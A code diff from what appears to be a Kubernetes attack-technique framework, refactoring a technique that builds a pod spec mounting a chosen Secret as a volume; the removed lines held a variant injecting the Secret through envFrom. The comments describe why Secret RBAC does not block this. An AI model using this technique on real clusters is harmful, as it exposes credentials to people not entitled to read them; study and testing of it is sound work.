@@ -1,17 +1,11 @@
 // The kubelet fetches the Secret with the node's rights, so nobody asks whether the person may read it
-// (plugin/pkg/auth/authorizer/node). No change of RBAC on Secrets closes this. The payload mounts the Secret that payload.name
-// says; Pod Security allows secret volumes on every level.
+// (plugin/pkg/auth/authorizer/node). No change of RBAC on Secrets closes this. body() takes a payload pod and mounts the Secret
+// of payload.name; Pod Security allows secret volumes on every level.
 #include "attack/technique.h"
 #include "attack/technique/build.h"
 
-static bool arm(struct payload *p)
+static bool body(struct payload *p)
 {
-	if (p->alternative > 1)
-		return false;
-	if (p->alternative == 1) {
-		build_push(p, "spec.containers.0.envFrom", build_doc(p, "{secretRef: {name: ?}}", build_name(p)));
-		return true;
-	}
 	build_push(p, "spec.volumes", build_doc(p, "{name: 'bulkhead-secret', secret: {secretName: ?}}", build_name(p)));
 	build_push(p, "spec.containers.0.volumeMounts", build_doc(p, "{name: 'bulkhead-secret', mountPath: '/bulkhead-secret', readOnly: true}"));
 	return true;
@@ -37,5 +31,5 @@ const struct technique technique_secret_by_pod_mount = {
 		"pkg/apis/core/types.go VolumeSource",
 	.from = POSITION_RUN,
 	.effect = EFFECT_SECRETS,
-	.arm = arm,
+	.body = body,
 };
